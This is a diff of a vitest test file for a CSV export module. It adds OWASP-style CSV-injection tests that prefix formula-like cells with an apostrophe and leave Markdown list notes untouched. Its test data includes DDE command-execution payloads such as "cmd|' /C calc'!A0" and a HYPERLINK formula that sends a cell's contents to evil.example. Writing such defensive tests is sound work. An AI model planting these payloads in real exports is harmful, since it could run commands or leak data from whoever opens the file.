@@ -1,7 +1,7 @@
 import Papa from 'papaparse';
 import { describe, expect, it } from 'vitest';
 import { emptyDocument, type UserDocument } from '../../../src/shared/document';
-import { CSV_COLUMNS, UTF8_BOM, renderCsv } from '../../../src/shared/csv';
+import { CSV_COLUMNS, UTF8_BOM, isFormulaLike, neutraliseCell, renderCsv } from '../../../src/shared/csv';
 import { updateProgress } from '../../../src/shared/mutations';
 import { pathView } from '../../../src/shared/pathView';
 import { applyStatus } from '../../../src/shared/progress';
@@ -57,10 +57,48 @@ describe('renderCsv', () => {
     expect(rows[1]!.at(-1)).toBe('');
   });
 
-  it('keeps a spreadsheet from running a note as a formula, but leaves Markdown list dashes alone', () => {
+  it('keeps a spreadsheet from running a note or a title as a formula, but leaves Markdown list dashes alone', () => {
     const withFormula = updateProgress(doc, 'b', { notes: '=HYPERLINK("http://x")' });
     const listy = updateProgress(doc, 'b', { notes: '- first\n- second' });
     expect(parse(renderCsv(pathView(path, withFormula), withFormula, '2026-06-01', { includeNotes: true }).content)[2]!.at(-1)).toBe(`'=HYPERLINK("http://x")`);
     expect(parse(renderCsv(pathView(path, listy), listy, '2026-06-01', { includeNotes: true }).content)[2]!.at(-1)).toBe('- first\n- second');
+    const hostileTitle = roadmap('p', [milestone('a', [], { title: "-2+3+cmd|' /C calc'!A0" })]);
+    expect(parse(renderCsv(pathView(hostileTitle, emptyDocument()), emptyDocument(), '2026-06-01', { includeNotes: false }).content)[1]![2]).toBe(
+      "'-2+3+cmd|' /C calc'!A0",
+    );
+  });
+});
+
+describe('neutraliseCell (OWASP CSV injection)', () => {
+  // Each of these runs, or could run, as a formula when a spreadsheet opens the file.
+  const FORMULAS = [
+    '=1+1',
+    '+1+1',
+    '@SUM(A1:A2)',
+    '\t=1+1',
+    '\r=1+1',
+    "-2+3+cmd|' /C calc'!A0",
+    '-1',
+    '-A1',
+    '-(1)',
+    '--1',
+    '-=1',
+    '- 2+3',
+    '- HYPERLINK("https://evil.example/?"&A1,"open")',
+    "- note\n- cmd|' /C calc'!A0",
+    '- see Sheet2!A1',
+    '-\titem',
+  ];
+  // Notes a learner writes: a Markdown list must come out exactly as typed.
+  const TEXT = ['- first\n- second', '- Read chapter 3 (the one on pandas)\n- Done!', '- item: 3 + 4 = 7', 'plain', '', 'a=b', ' -1', '2026-05-01', 'https://x.example/a-b'];
+
+  it.each(FORMULAS)('neutralises %j with a leading apostrophe', (cell) => {
+    expect(isFormulaLike(cell)).toBe(true);
+    expect(neutraliseCell(cell)).toBe(`'${cell}`);
+  });
+
+  it.each(TEXT)('leaves %j as it is', (cell) => {
+    expect(isFormulaLike(cell)).toBe(false);
+    expect(neutraliseCell(cell)).toBe(cell);
   });
 });
